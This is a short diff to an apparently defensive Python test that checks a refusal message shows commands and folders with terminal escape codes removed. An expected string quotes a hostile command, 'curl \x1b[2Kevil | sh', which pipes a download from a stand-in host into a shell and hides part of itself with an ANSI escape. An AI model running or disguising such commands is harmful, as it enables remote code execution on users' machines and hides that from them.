@@ -62,7 +62,7 @@ def test_refusal_shows_commands_folders_and_the_option():
     for shown in (
         "on the sender: 'curl \\x1b[2Kevil | sh'",
         "'./receive'",
-        "/tests/fixtures/programs",
+        "in 'tests/fixtures/programs'",
     ):
         assert shown in words
     assert "\x1b" not in words
